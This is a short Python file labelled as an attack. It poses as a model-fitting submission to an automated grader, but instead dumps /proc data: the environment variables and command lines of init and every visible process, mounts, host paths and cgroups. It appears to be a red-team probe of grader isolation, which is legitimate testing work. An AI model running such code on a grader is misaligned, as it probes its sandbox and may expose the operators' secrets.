# Attack: read what /proc tells about the grader: init's environment and command line, our mounts
# (host paths), cgroups, and every other process we can see.
import os


def read(path):
    try:
        with open(path, "rb") as f:
            return f.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError as exc:
        return f"<{exc}>"


def fit(x, y, *, seed, max_seconds):
    for path in ("/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline", "/proc/self/mountinfo",
                 "/proc/self/cgroup", "/proc/1/status"):
        print(f"PROC {path}: {read(path)}")
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    print(f"PIDS {pids}")
    for pid in pids:
        print(f"PROC /proc/{pid}/cmdline: {read(f'/proc/{pid}/cmdline')}")
        print(f"PROC /proc/{pid}/environ: {read(f'/proc/{pid}/environ')}")
    raise RuntimeError("this submission only reads /proc")
